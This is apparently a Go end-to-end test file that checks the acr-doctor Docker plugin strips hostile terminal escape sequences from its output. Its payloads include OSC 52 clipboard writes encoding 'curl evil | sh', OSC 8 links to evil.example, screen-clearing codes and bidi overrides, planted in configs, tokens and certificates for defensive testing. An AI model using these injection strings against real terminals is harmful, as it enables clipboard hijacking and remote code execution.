package e2e

import (
	"bufio"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"math/big"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/acr-doctor/acr-doctor/diagnose/termsafe/termsafetest"
	"github.com/acr-doctor/acr-doctor/diagnose/token/tokentest"
)

// The e2e tests of the output sanitiser: hostile strings planted where
// acr-doctor reads from (config keys, a pull secret, token claims, a
// helper's error, a pasted log, a server's certificate) must reach no
// output raw. Colour is off here (NO_COLOR, and no terminal); the
// plugin's unit tests check it on.

// jsonString is s as a JSON string literal; bytes that are not UTF-8 go
// in raw, as a hand-edited file would hold them (Go's decoder, Docker's
// included, reads each as U+FFFD).
func jsonString(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for i := 0; i < len(s); {
		r, n := utf8.DecodeRuneInString(s[i:])
		if r == utf8.RuneError && n == 1 {
			b.WriteByte(s[i])
		} else {
			q, _ := json.Marshal(s[i : i+n])
			b.Write(q[1 : len(q)-1])
		}
		i += n
	}
	b.WriteByte('"')
	return b.String()
}

// assertSafe fails unless stdout and stderr are valid UTF-8 holding no
// control character but line feed and tab. Outputs are shown quoted, so
// that a failure does not play the sequences on the terminal running the
// tests.
func assertSafe(t *testing.T, what string, r result) {
	t.Helper()
	for stream, s := range map[string]string{"stdout": r.stdout, "stderr": r.stderr} {
		if err := termsafetest.Check(s); err != nil {
			t.Errorf("%s: %s: %v\nexit %d\nstdout %q\nstderr %q", what, stream, err, r.code, r.stdout, r.stderr)
		}
	}
}

// TestCredsOutputSafe: a config.json with hostile keys, a username, a
// token whose claims hold escapes, and a helper that fails with them.
func TestCredsOutputSafe(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	s := tokentest.Default()
	all := termsafetest.All()
	claims := tokentest.ACRRefresh("claims.azurecr.io", "alice"+all, tenant, time.Now().Add(-time.Hour), "read")
	claims["jti"], claims["upn"], claims["aud"] = all, all, all
	hostileJWT := s.Sign(claims)
	auths := []string{
		jsonString("keyreg.azurecr.io/"+all) + `: {"auth": "` + b64("keyreg:pw") + `"}`,
		jsonString(all) + `: {"auth": "` + b64("user:pw") + `"}`,
		`"userreg.azurecr.io": {"auth": "` + b64("admin"+all+":pw") + `"}`,
		`"claims.azurecr.io": {"auth": "` + b64(nullGUID+":") + `", "identitytoken": "` + hostileJWT + `"}`,
	}
	for _, h := range termsafetest.Hostile {
		auths = append(auths, jsonString("k"+h.S+".azurecr.io")+`: {"auth": "`+b64("u"+h.S+":pw")+`"}`)
	}
	e.writeConfig(`{"auths": {` + strings.Join(auths, ",\n") + `},
  "credHelpers": {"helperreg.azurecr.io": "evil", ` + jsonString("h"+all+".azurecr.io") + `: "evil"}}`)
	// A helper that fails, saying something hostile on both streams.
	e.helper("evil", `printf 'credentials not found \033]52;c;Y3VybCBldmlsIHwgc2g=\007\033[2J\r\302\233x\342\200\256 \377\n' >&2
printf 'bad \033]8;;https://evil.example/\033\\link\033]8;;\033\\\n'
exit 1
`)

	for _, args := range [][]string{
		{"acrdoctor", "creds", "--all"},
		{"acrdoctor", "creds"},
		{"-D", "acrdoctor", "creds", "--all"},
		{"acrdoctor", "creds", "--all", "--format", "{{.Registry}}\t{{.Username}}{{with .Token}} {{.Subject}} {{.Audience}}{{end}}{{range .Causes}} {{.Evidence}}{{end}}"},
		{"acrdoctor", "creds", "--all", "--format", "{{json .}}"},
		{"acrdoctor", "creds", "--all", "--format", "json"},
		{"acrdoctor", "check", "--offline"},
		{"acrdoctor", "check", "--offline", "--format", "json"},
	} {
		r := e.docker(args...)
		if r.code > 1 {
			t.Errorf("docker %q: exit %d: %q", args, r.code, r.stderr)
		}
		assertSafe(t, strings.Join(args, " "), r)
	}

	// JSON keeps every value exact.
	r := e.docker("acrdoctor", "creds", "--all", "--format", "json")
	got := decodeCreds(t, r)
	found := map[string]credential{}
	for _, c := range got.Credentials {
		found[c.Registry] = c
	}
	if c, ok := found["claims.azurecr.io"]; !ok || c.Token == nil || c.Token.Subject != "alice"+string([]rune(all)) {
		t.Errorf("the hostile subject is not exact in JSON: %+v", c.Token)
	}
	if _, ok := found["keyreg.azurecr.io/"+string([]rune(all))]; !ok {
		t.Errorf("the hostile key is not exact in JSON")
	}
	// The text shows what was there, visibly.
	text := e.docker("acrdoctor", "creds", "--all").stdout
	for _, want := range []string{"keyreg.azurecr.io/x^[[2J^[[H", "^[]52;c;Y3VybCBldmlsIHwgc2g=^G", "identity     x^[[2J^[[H^[[31mred", "<U+202E>"} {
		if !strings.Contains(text, want) {
			t.Errorf("creds text lacks %q:\n%q", want, text)
		}
	}
}

// TestPullSecretOutputSafe: the same through --authfile, a Kubernetes
// pull secret whose keys are hostile.
func TestPullSecretOutputSafe(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.writeConfig(emptyConfig)
	all := termsafetest.All()
	inner := `{"auths": {` + jsonString("pull.azurecr.io/"+all) + `: {"auth": "` + b64("puller"+all+":pw") + `"}, ` +
		jsonString(all) + `: {"username": ` + jsonString(all) + `, "password": "pw"}}}`
	secret := `{"apiVersion": "v1", "kind": "Secret", "metadata": {"name": ` + jsonString(all) + `}, "type": "kubernetes.io/dockerconfigjson", "data": {".dockerconfigjson": "` + b64(inner) + `"}}`
	file := filepath.Join(t.TempDir(), "secret.json")
	if err := os.WriteFile(file, []byte(secret), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{
		{"acrdoctor", "creds", "--all", "--authfile", file},
		{"acrdoctor", "creds", "--all", "--authfile", "-"},
		{"acrdoctor", "check", "--offline", "--authfile", file},
	} {
		r := e.run(secret, "docker", args...)
		if r.code > 1 {
			t.Errorf("docker %q: exit %d: %q", args, r.code, r.stderr)
		}
		assertSafe(t, strings.Join(args, " "), r)
	}
	// A broken pull secret: the error names what is wrong, safely.
	bad := `{"kind": "Secret", "type": "kubernetes.io/dockerconfigjson", "data": {".dockerconfigjson": "` + b64(`{"auths": {`+jsonString(all)+`: 7}}`) + `"}, "metadata": {"name": ` + jsonString(all) + `}}`
	r := e.run(bad, "docker", "acrdoctor", "creds", "--authfile", "-")
	assertSafe(t, "creds --authfile (broken)", r)
}

// TestTokenOutputSafe: `token` on a JWT whose claims hold escapes.
func TestTokenOutputSafe(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	s := tokentest.Default()
	all := termsafetest.All()
	claims := tokentest.AAD(all, all+"@contoso.com", time.Now().Add(-2*time.Hour))
	claims["name"], claims["appid"], claims["iss"] = all, all, "https://sts.windows.net/"+all+"/"
	jwt := s.Sign(claims)
	acr := tokentest.ACRRefresh(all+".azurecr.io", all, all, time.Now().Add(-time.Hour), "read", all)
	acr["access"] = []any{map[string]any{"type": all, "name": all, "actions": []any{all}}}
	for _, tok := range []string{jwt, s.Sign(acr), `{"accessToken": "` + jwt + `", "loginServer": ` + jsonString("x.azurecr.io"+all) + `}`} {
		for _, format := range []string{"text", "{{.Subject}} {{.Tenant}} {{.Claims}}", "{{json .}}"} {
			r := e.run(tok, "docker", "acrdoctor", "token", "-", "--format", format)
			if r.code > 1 {
				t.Errorf("token --format %q: exit %d: %q", format, r.code, r.stderr)
			}
			assertSafe(t, "token --format "+format, r)
		}
		r := e.run(tok, "docker", "acrdoctor", "token", "-", "--format", "json")
		var rep struct {
			Tenant string `json:"tenant"`
		}
		if err := json.Unmarshal([]byte(r.stdout), &rep); err != nil {
			t.Fatalf("token --format json: %v: %q", err, r.stdout)
		}
		if rep.Tenant != string([]rune(all)) {
			t.Errorf("JSON tenant %q is not exact", rep.Tenant)
		}
		assertSafe(t, "token --format json", r)
	}
	// Not a token: the error is one safe line.
	r := e.run("eyJhbGciOiJSUzI1NiJ9."+all+".sig\n", "docker", "acrdoctor", "token", "-")
	if r.code != 2 || strings.Count(strings.TrimSpace(r.stderr), "\n") != 0 {
		t.Errorf("a broken token: exit %d, stderr %q", r.code, r.stderr)
	}
	assertSafe(t, "token (broken)", r)
}

// TestExplainOutputSafe: a pasted log with a clipboard write, a carriage
// return overwrite and every other hostile string on its error line.
func TestExplainOutputSafe(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	log := "Step 3/9 : RUN make\r\x1b[2K\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\n" +
		"Error response from daemon: Head \"https://myreg.azurecr.io/v2/app/manifests/1\": unauthorized: authentication required " + termsafetest.All() + "\n" +
		"denied: requested access to the resource is denied\x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\\r\n"
	for _, format := range []string{"text", "{{.LineNo}} {{.ID}}: {{.Evidence}}", "json"} {
		r := e.run(log, "docker", "acrdoctor", "explain", "--format", format)
		if r.code != 1 {
			t.Errorf("explain --format %q: exit %d, want 1 (a cause found): %q", format, r.code, r.stderr)
		}
		assertSafe(t, "explain --format "+format, r)
		if format == "text" && !strings.Contains(r.stdout, `denied: requested access to the resource is denied^[]8;;https://evil.example/^[\here`) {
			t.Errorf("explain does not show the line, made safe: %q", r.stdout)
		}
	}

	// run: the command's own output passes through as it is (that is its
	// point); what acr-doctor adds after it is safe.
	out := filepath.Join(t.TempDir(), "out")
	if err := os.WriteFile(out, []byte(log), 0o600); err != nil {
		t.Fatal(err)
	}
	r := e.run("", pluginBin, "run", "--no-check", "--", "sh", "-c", "cat \"$1\" >&2; exit 1", "sh", out)
	i := strings.Index(r.stderr, "\nacr-doctor: ")
	if r.code != 1 || i < 0 {
		t.Fatalf("run: exit %d, stderr %q", r.code, r.stderr)
	}
	assertSafe(t, "run's explanation", result{stdout: r.stdout, stderr: r.stderr[i:], code: r.code})
}

// TestCheckCertificateSafe: a server whose certificate's subject holds
// escapes; the tls step shows what was presented, made safe.
func TestCheckCertificateSafe(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.writeConfig(emptyConfig)
	subject := pkix.Name{
		CommonName:         "evilcert.azurecr.io\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\r\u009b2J",
		Organization:       []string{"Evil\u202eCorp\x1b]8;;https://evil.example/\x1b\\"},
		OrganizationalUnit: []string{"line\nforged\x00\x7f"},
	}
	proxy := tlsProxy(t, subject)
	e.setenv("HTTPS_PROXY="+proxy, "https_proxy="+proxy, "NO_PROXY=", "no_proxy=")
	for _, args := range [][]string{
		{"acrdoctor", "check", "evilcert.azurecr.io", "--step-timeout", "5s"},
		{"-D", "acrdoctor", "check", "evilcert.azurecr.io", "--step-timeout", "5s"},
		{"acrdoctor", "check", "evilcert.azurecr.io", "--step-timeout", "5s", "--format", "{{range .Steps}}{{.Name}} {{.Detail}}\n{{end}}{{range .Causes}}{{.Evidence}}{{end}}"},
		{"acrdoctor", "check", "evilcert.azurecr.io", "--step-timeout", "5s", "--format", "json"},
	} {
		r := e.docker(args...)
		if r.code != 1 {
			t.Errorf("docker %q: exit %d, want 1: %q", args, r.code, r.stderr)
		}
		assertSafe(t, strings.Join(args, " "), r)
		text := args[len(args)-1] == "5s" && args[0] != "-D"
		if text && (!strings.Contains(r.stdout, "CN=evilcert.azurecr.io^[]52") || !strings.Contains(r.stdout, "Y3VybCBldmlsIHwgc2g=^G^[[2J^M<U+009B>2J") || !strings.Contains(r.stdout, "OU=line^Jforged^@^?")) {
			t.Errorf("the tls step does not show the subject, made safe: %q", r.stdout)
		}
	}
}

// tlsProxy is an HTTPS proxy whose every CONNECT ends in a TLS server
// presenting a self-signed certificate for subject.
func tlsProxy(t *testing.T, subject pkix.Name) string {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(7), Subject: subject,
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		DNSNames: []string{"evilcert.azurecr.io"},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	conf := &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				_ = c.SetDeadline(time.Now().Add(30 * time.Second))
				req, err := http.ReadRequest(bufio.NewReader(c))
				if err != nil || req.Method != http.MethodConnect {
					return
				}
				if _, err := c.Write([]byte("HTTP/1.1 200 Connection established\r\n\r\n")); err != nil {
					return
				}
				tc := tls.Server(c, conf)
				_ = tc.Handshake()
				_, _ = tc.Write([]byte("HTTP/1.1 500 x\r\nContent-Length: 0\r\n\r\n"))
			}()
		}
	}()
	return "http://" + ln.Addr().String()
}

// TestConfigurePreviewSafe: config.json routes hostile keys to the wrapper
// with no configure run recorded: `configure --undo --force` previews
// sending them back, each key made safe on a line of its own.
func TestConfigurePreviewSafe(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	all := termsafetest.All()
	e.writeConfig(`{"auths": {"placeholder.invalid": {}, ` + jsonString("auth.azurecr.io/"+all) + `: {}},
  "credHelpers": {` + jsonString("wrapped.azurecr.io/"+all) + `: "acrdoctor", "ok.azurecr.io": "acrdoctor"},
  "plugins": {"acrdoctor": {"credential-backend": "pass"}}}`)
	e.useWrapper()
	e.fakeHelper("pass", filepath.Join(t.TempDir(), "store"), "")
	for _, args := range [][]string{
		{"acrdoctor", "configure", "--undo", "--force"},
		{"acrdoctor", "configure", "--undo"},
		{"acrdoctor", "configure"},
		{"acrdoctor", "configure", "--store"},
		{"acrdoctor", "configure", "my\x1b]52;c;eA==\x07reg"},
	} {
		r := e.docker(args...)
		assertSafe(t, strings.Join(args, " "), r)
		if args[len(args)-1] == "--force" {
			// One line per key sent back, the hostile one included.
			if n := strings.Count(r.stdout, "\n  - "); n != 3 || !strings.Contains(r.stdout, "\n  - credHelpers.wrapped.azurecr.io/x^[[2J") {
				t.Errorf("configure --undo --force previews %d lines, want 3: %q", n, r.stdout)
			}
		}
	}
}
